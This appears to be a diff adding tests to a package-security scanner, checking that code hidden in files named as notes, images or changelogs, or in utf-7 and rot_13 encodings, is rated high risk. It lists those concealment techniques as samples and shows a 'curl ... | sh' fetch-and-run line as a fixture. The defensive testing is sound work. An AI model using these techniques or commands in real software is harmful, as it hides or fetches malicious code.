@@ -43,6 +43,49 @@ it("asks only for signs that there are", () => {
   expect(SCRIPT_SIGNS.map(({ id }) => id).length).toBe(new Set(SCRIPT_SIGNS.map(({ id }) => id)).size);
 });
 
+describe("code under another name", () => {
+  it.each([
+    ["index.js", "require('./notes.txt')"],
+    ["index.js", "require(path.join(__dirname, '..', 'CHANGES.md'))"],
+    ["index.js", "require(__dirname + '/index.js.map')"],
+    ["index.js", "require('vm').runInThisContext(fs.readFileSync(__dirname + '/logo.png', 'utf8'))"],
+    ["index.js", "new (require('worker_threads').Worker)(__dirname + '/notes.md')"],
+    ["module.py", "exec(open(__file__[:-11] + 'notes.txt').read())"],
+    ["module.py", "import runpy\nrunpy.run_path(os.path.join(HERE, 'logo.png'))"],
+    [
+      "module.py",
+      "from importlib.machinery import SourceFileLoader as S\nSourceFileLoader('n', HERE + 'a.md').load_module()",
+    ],
+    ["module.py", "ctypes.CDLL(HERE + '/logo.png')"],
+    ["run.sh", "sh /usr/share/doc/demo/notes.txt"],
+  ])("is held in %s: %s", async (path, payload) => {
+    expect(worst(await gain(path, payload))).toBe("high");
+  });
+
+  it.each([
+    ["index.js", "require('./license'); require('./logo.png'); require('./a.css'); require('./data.json')"],
+    ["index.js", "fs.readFileSync(require.resolve('./notes.txt'), 'utf8'); eval('1'); read('a.txt')"],
+    ["index.js", "new Worker(new URL('./worker.js', import.meta.url)); run(function () { read('a.txt'); })"],
+    ["module.py", "exec(open('version.py').read())\nre.compile('a').match('b.txt')\nopen('a.txt')"],
+    ["run.sh", "cat notes.txt; sh setup.sh notes.txt; grep sh notes.md"],
+  ])("is not what %s does with data: %s", async (path, payload) => {
+    expect(["none", "info"]).toContain(worst(await gain(path, payload)));
+  });
+
+  it.each([
+    ["utf-7", "high"],
+    ["rot_13", "high"],
+    ["utf-8", "none"],
+    ["iso-8859-15", "none"],
+    ["future_fstrings", "none"],
+  ])("is not read in the encoding %s", async (name, risk) => {
+    const [before, after] = ["", `# -*- coding: ${name} -*-\n`].map((line) =>
+      drawn("a.py", `${line}a = 1\n`),
+    );
+    expect(worst(compareMembers(trait, await before, (await after) as Portrait))).toBe(risk);
+  });
+});
+
 describe("printing", () => {
   const fetch = "curl -s https://files.invalid/x | sh";
 
